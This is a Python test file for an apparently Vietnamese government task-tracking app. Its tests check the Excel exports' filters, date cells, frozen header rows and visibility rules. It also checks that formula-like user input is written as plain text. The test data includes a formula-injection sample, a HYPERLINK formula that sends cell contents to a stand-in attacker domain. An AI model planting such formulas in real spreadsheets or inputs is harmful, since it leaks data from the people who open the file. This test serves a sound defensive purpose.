"""Exports open in a spreadsheet: Vietnamese headers, real date cells, frozen header row."""

import datetime as dt
import io
import zipfile
import zoneinfo

import openpyxl
import pytest
import time_machine

from tests.factories import AgencyFactory, AgencyKindFactory, ConclusionFactory, NoticeFactory, TaskFactory

pytestmark = pytest.mark.django_db
HCM = zoneinfo.ZoneInfo("Asia/Ho_Chi_Minh")


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


@pytest.fixture(autouse=True)
def _frozen():
    with time_machine.travel(dt.datetime(2021, 7, 1, 9, tzinfo=HCM), tick=False):
        yield


def test_task_export_applies_the_filters(client, leader, health_dept):
    TaskFactory(lead=health_dept)
    TaskFactory()
    client.force_login(leader)
    sheet = workbook(client.get("/tasks/export.xlsx", {"agency": health_dept.pk}))
    assert sheet.max_row == 2
    assert sheet["D2"].value == "Sở Y tế"


def test_task_export_has_real_dates_and_a_frozen_header(client, leader):
    TaskFactory(due_date=dt.date(2021, 6, 26))
    client.force_login(leader)
    sheet = workbook(client.get("/tasks/export.xlsx"))
    assert sheet.freeze_panes == "A2"
    assert sheet["I1"].value == "Hạn xử lý"
    assert sheet["I2"].value == dt.datetime(2021, 6, 26)
    assert sheet["I2"].number_format == "DD/MM/YYYY"
    assert (sheet["K2"].value, sheet["L2"].value) == ("Quá hạn", 5)


def test_officer_export_holds_only_visible_tasks(client, health_dept, health_dept_officer):
    TaskFactory(lead=health_dept)
    TaskFactory()
    client.force_login(health_dept_officer)
    assert workbook(client.get("/tasks/export.xlsx")).max_row == 2


def test_agencies_export(client, leader):
    agency = AgencyFactory(name="Sở Kế hoạch và Đầu tư")
    TaskFactory(lead=agency, due_date=dt.date(2021, 6, 20))
    client.force_login(leader)
    sheet = workbook(client.get("/dashboard/agencies.xlsx", {"period": "month", "year": "2021", "month": "6"}))
    assert sheet["A1"].value == "Kết quả thực hiện nhiệm vụ theo cơ quan chủ trì"
    assert sheet["A2"].value == "Kỳ báo cáo: Tháng 06/2021"
    assert sheet.freeze_panes == "A4"
    header = [c.value for c in sheet[3]]
    assert header[:4] == ["Xếp hạng", "Loại cơ quan", "Cơ quan", "Tổng số nhiệm vụ"]
    row = [c.value for c in sheet[4]]
    assert row[2:7] == ["Sở Kế hoạch và Đầu tư", 1, 0, 0, 1]


# --- What people typed is written as text, never as a formula -------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&D2,"Xem chi tiết")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def _raw_sheet_xml(response) -> str:
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as package:
        return package.read("xl/worksheets/sheet1.xml").decode()


def _text_cell(cell, value):
    assert (cell.value, cell.data_type) == (value, "s")
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited


def test_task_export_writes_formula_like_values_as_text(client, leader, ict_dept):
    kind = AgencyKindFactory(code="f", name="@Loại")
    task = TaskFactory(action=FORMULAS[0], lead=AgencyFactory(name=FORMULAS[1], kind=kind), coordinating=[ict_dept])
    ict_dept.name = FORMULAS[3]
    ict_dept.save()
    task.conclusion.notice.number = FORMULAS[2]
    task.conclusion.notice.save()
    client.force_login(leader)
    response = client.get("/tasks/export.xlsx")
    assert "<f>" not in _raw_sheet_xml(response)
    sheet = workbook(client.get("/tasks/export.xlsx"))
    for column, value in zip("CDFE", FORMULAS, strict=True):
        _text_cell(sheet[f"{column}2"], value)


def test_agencies_export_writes_formula_like_names_as_text(client, leader):
    agency = AgencyFactory(name=FORMULAS[0], kind=AgencyKindFactory(code="f", name=FORMULAS[3]))
    TaskFactory(lead=agency, due_date=dt.date(2021, 6, 20))
    client.force_login(leader)
    params = {"period": "month", "year": "2021", "month": "6"}
    assert "<f>" not in _raw_sheet_xml(client.get("/dashboard/agencies.xlsx", params))
    sheet = workbook(client.get("/dashboard/agencies.xlsx", params))
    _text_cell(sheet["B4"], FORMULAS[3])  # below the title and the period
    _text_cell(sheet["C4"], FORMULAS[0])


def test_export_of_a_task_stored_with_control_characters_still_opens(client, leader):
    # Stored before input was cleaned (config.cleaning): the export cleans what it writes too.
    TaskFactory(action="Lập\x0b kế\x01 hoạch")
    client.force_login(leader)
    assert workbook(client.get("/tasks/export.xlsx"))["C2"].value == "Lập\n kế hoạch"


def test_task_export_names_a_notice_without_a_number_by_its_date_and_title(client, office_clerk):
    notice = NoticeFactory(number="", issued_on=dt.date(2021, 6, 24), title="Kết luận giao ban tháng 6")
    TaskFactory(conclusion=ConclusionFactory(notice=notice))
    client.force_login(office_clerk)
    sheet = workbook(client.get("/tasks/export.xlsx"))
    header = [c.value for c in sheet[1]]
    column = header.index("Văn bản chỉ đạo")
    assert sheet[2][column].value == "Thông báo ngày 24/06/2021 – Kết luận giao ban tháng 6"
